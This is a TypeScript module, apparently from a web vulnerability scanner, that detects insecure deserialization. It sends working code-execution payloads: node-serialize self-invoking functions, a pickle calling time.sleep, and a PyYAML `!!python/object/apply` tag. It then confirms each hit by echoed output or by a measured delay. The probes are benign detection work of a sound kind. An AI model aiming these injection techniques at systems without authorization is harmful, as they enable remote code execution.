// Insecure deserialization: the app rebuilds objects from data it was sent with a deserializer that runs
// code (CWE-502). Three such deserializers are tried, each with what only running code can do:
// - node-serialize's unserialize evaluates any string that starts with `_$$ND_FUNC$$_`: a function
//   invoked at once there returns, or throws, the product of two random numbers joined to `typeof
//   process` (only Node.js writes "object"), which comes back computed in the page or its error page;
//   with the owner's consent, it also waits busily (it blocks the app's event loop: intrusive);
// - Python's pickle calls what the data names: time.sleep;
// - PyYAML's unsafe load (yaml.load with its full or unsafe loader) builds `!!python/object/apply`:
//   time.sleep again.
// The waits are judged by the time-based confirmation the blind injections use (delay.ts). Where the
// data goes: a parameter or a cookie whose value the app itself set as serialized data (JSON, or
// base64 of JSON or of a pickle), each tried in the same encoding; and, with consent, uploaded files.
import { randomInt } from 'node:crypto';

import type { Finding } from '../../../../shared/findings.ts';
import { webappFinding } from '../rules.ts';
import { delayEvidence, timedFinding } from './delay.ts';
import type { DelayPayload, TimedFinding, TimedProbe } from './delay.ts';
import type { ValueProbe } from './param-probe.ts';

/** How a carrier's value holds serialized data. */
export type SerialFormat = 'json' | 'base64-json' | 'base64-pickle' | 'file';

/** Values longer than this are not decoded (a serialized session is small; a page of data is no carrier). */
const maxValueChars = 8192;

const base64 = /^[A-Za-z0-9+/]+={0,2}$|^[A-Za-z0-9_-]+={0,2}$/;

function decoded(value: string): Buffer | null {
  const text = value.trim();
  if (text.length < 8 || text.length > maxValueChars || !base64.test(text)) {
    return null;
  }
  return Buffer.from(text.replace(/-/g, '+').replace(/_/g, '/'), 'base64');
}

const isObjectJson = (text: string): boolean => {
  if (!/^\s*[[{]/.test(text)) {
    return false;
  }
  try {
    const parsed: unknown = JSON.parse(text);
    return typeof parsed === 'object' && parsed !== null;
  } catch {
    return false;
  }
};

/** A pickle of protocol 2 to 5 (PROTO opcode first) that ends with STOP. */
const isPickle = (bytes: Buffer) =>
  bytes.length >= 4 && bytes[0] === 0x80 && bytes[1]! >= 2 && bytes[1]! <= 5 && bytes.at(-1) === 0x2e;

/** The format of a value the app set, or null when it holds no serialized data. */
export function serialFormat(value: string): SerialFormat | null {
  if (value.length > maxValueChars) {
    return null;
  }
  if (isObjectJson(value)) {
    return 'json';
  }
  const bytes = decoded(value);
  if (!bytes) {
    return null;
  }
  if (isPickle(bytes)) {
    return 'base64-pickle';
  }
  return isObjectJson(bytes.toString('utf8')) ? 'base64-json' : null;
}

/**
 * The payload encoded as the original was: raw, or base64 in the original's alphabet (the URL-safe one only
 * when the original shows it: Python's b64decode drops what is not in the standard one), padded unless a
 * URL-safe original was not (padding is never wrong for a standard decoder, and required by Python's).
 */
function encoded(format: SerialFormat, original: string, payload: string | Buffer): string {
  if (format === 'json' || format === 'file') {
    return payload.toString();
  }
  const text = Buffer.from(payload).toString('base64');
  const urlSafe = /[-_]/.test(original);
  if (!urlSafe) {
    return text;
  }
  const alphabet = text.replace(/\+/g, '-').replace(/\//g, '_');
  return original.trim().endsWith('=') ? alphabet : alphabet.replace(/=+$/, '');
}

const FUNCTION_FLAG = '_$$ND_FUNC$$_';
const maxLeaves = 16;

/**
 * The original JSON with every string leaf (up to 16, three levels down) replaced by a node-serialize
 * function; an object without one gets a key of its own. Not an object: an object holding only the function.
 */
export function withFunction(originalJson: string, code: string): string {
  const fn = `${FUNCTION_FLAG}${code}`;
  let parsed: unknown;
  try {
    parsed = JSON.parse(originalJson);
  } catch {
    parsed = null;
  }
  if (typeof parsed !== 'object' || parsed === null) {
    return JSON.stringify({ vigil: fn });
  }
  let leaves = 0;
  const walk = (node: Record<string, unknown> | unknown[], depth: number) => {
    for (const key of Object.keys(node)) {
      const value = (node as Record<string, unknown>)[key];
      if (leaves >= maxLeaves) {
        return;
      }
      if (typeof value === 'string') {
        (node as Record<string, unknown>)[key] = fn;
        leaves += 1;
      } else if (typeof value === 'object' && value !== null && depth < 3) {
        walk(value as Record<string, unknown>, depth + 1);
      }
    }
  };
  walk(parsed as Record<string, unknown>, 0);
  if (leaves === 0 && !Array.isArray(parsed)) {
    (parsed as Record<string, unknown>).vigil = fn;
  }
  return leaves === 0 && Array.isArray(parsed) ? JSON.stringify({ vigil: fn }) : JSON.stringify(parsed);
}

/** The JSON text behind a JSON-carrying original (decoded when base64); a neutral object for a file. */
function jsonOf(format: SerialFormat, original: string): string {
  if (format === 'base64-json') {
    return decoded(original)?.toString('utf8') ?? '{}';
  }
  return format === 'json' ? original : '{"name":"vigil","description":"vigil"}';
}

const factors = (): [number, number] => [randomInt(1000, 10000), randomInt(1000, 10000)];
const nodeFact = (a: number, b: number) => `${a}*${b}+'-'+typeof process`;

/** What the echo check needs of a carrier. */
export type EchoProbe = Pick<ValueProbe, 'param' | 'location' | 'original' | 'request' | 'originalOnce'>;

interface EchoPayload {
  how: string;
  code: (a: number, b: number) => string;
}

const echoPayloads: EchoPayload[] = [
  { how: 'returned', code: (a, b) => `function(){return ${nodeFact(a, b)}}()` },
  { how: 'thrown', code: (a, b) => `function(){throw new Error(${nodeFact(a, b)})}()` },
];

/**
 * node-serialize, proven by output: the function's computed result (returned into the object, or thrown
 * into the error page) comes back, twice with fresh numbers, and the original answer does not hold it.
 */
export async function nodeSerializeEcho(probe: EchoProbe, format: SerialFormat): Promise<Finding | null> {
  const original = await probe.originalOnce();
  if (!original) {
    return null;
  }
  const json = jsonOf(format, probe.original);
  const value = (payload: EchoPayload, a: number, b: number) =>
    encoded(format, probe.original, withFunction(json, payload.code(a, b)));
  const echoed = async (payload: EchoPayload): Promise<string | null> => {
    const [a, b] = factors();
    const result = `${a * b}-object`;
    const answer = await probe.request(value(payload, a, b));
    return answer?.body.includes(result) && !original.body.includes(result) ? result : null;
  };
  for (const payload of echoPayloads) {
    const first = await echoed(payload);
    if (!first) {
      continue;
    }
    const again = await echoed(payload);
    if (again) {
      const [a, b] = factors();
      return webappFinding('web.deserialization', {
        location: probe.location,
        evidence: `${probe.param} sent as ${describe(format)} with a node-serialize function (${FUNCTION_FLAG}function(){…}()) in its strings: the value it ${payload.how} came back computed, ${first} and, with fresh numbers, ${again}; the app unserializes what it is sent, and node-serialize runs it (payload such as ${JSON.stringify(value(payload, a, b).slice(0, 200))})`,
      });
    }
  }
  return null;
}

const describe = (format: SerialFormat) =>
  ({
    json: 'JSON',
    'base64-json': 'base64 of JSON',
    'base64-pickle': 'base64 of a Python pickle',
    file: 'an uploaded file',
  })[format];

/** A protocol-0 pickle that calls time.sleep(seconds) (GLOBAL, MARK, INT, TUPLE, REDUCE, STOP). */
export const sleepPickle = (seconds: number) => `ctime\nsleep\n(I${Math.round(seconds)}\ntR.`;

/** The payloads that make the app wait, for a carrier of `format`; node's busy wait only with consent. */
export function delayPayloads(format: SerialFormat, original: string, intrusive: boolean): DelayPayload[][] {
  const node: DelayPayload = {
    label: 'node-serialize function (a busy wait invoked at once)',
    build: (_probe, s) =>
      encoded(
        format,
        original,
        withFunction(
          jsonOf(format, original),
          `function(){var e=Date.now()+${Math.round(s * 1000)};while(Date.now()<e){}}()`,
        ),
      ),
  };
  const pickle: DelayPayload = {
    label: 'Python pickle (time.sleep through REDUCE)',
    build: (_probe, s) => encoded(format, original, sleepPickle(s)),
  };
  const yaml: DelayPayload = {
    label: 'PyYAML unsafe load (!!python/object/apply:time.sleep)',
    build: (_probe, s) => `!!python/object/apply:time.sleep [${Math.round(s)}]\n`,
  };
  // Node answers nothing else while it waits busily: timed apart from the others, which it would delay too.
  const groups: DelayPayload[][] = [];
  if (intrusive && format !== 'base64-pickle') {
    groups.push([node]);
  }
  if (format === 'base64-pickle' || format === 'file') {
    groups.push(format === 'file' ? [pickle, yaml] : [pickle]);
  }
  return groups;
}

/** The time-based check: the first group of payloads that makes the app wait as asked. */
export async function deserializeDelay(
  probe: TimedProbe & Pick<ValueProbe, 'location'>,
  groups: DelayPayload[][],
  fresh = false,
): Promise<TimedFinding> {
  let untimed: { untimed: string } | null = null;
  for (const payloads of groups) {
    const result = timedFinding(probe, 'web.deserialization', await delayEvidence(probe, payloads, fresh));
    if (result && 'untimed' in result) {
      untimed ??= result;
    } else if (result) {
      return result;
    }
  }
  return untimed;
}
